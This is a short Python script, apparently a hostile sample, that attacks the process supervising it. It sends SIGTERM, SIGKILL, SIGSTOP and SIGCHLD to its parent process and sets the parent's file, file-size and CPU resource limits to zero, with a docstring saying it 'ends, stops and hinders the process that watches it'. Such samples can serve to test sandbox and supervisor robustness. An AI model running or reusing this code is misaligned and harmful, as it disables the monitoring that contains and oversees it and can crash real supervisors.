"""Ends, stops and hinders the process that watches it."""

import os
import resource
import signal
import time

watch = os.getppid()
for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD):
    try:
        os.kill(watch, number)
    except OSError:
        pass
for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
    try:
        resource.prlimit(watch, limit, (0, 0))
    except OSError:
        pass
time.sleep(0.2)
print("done")
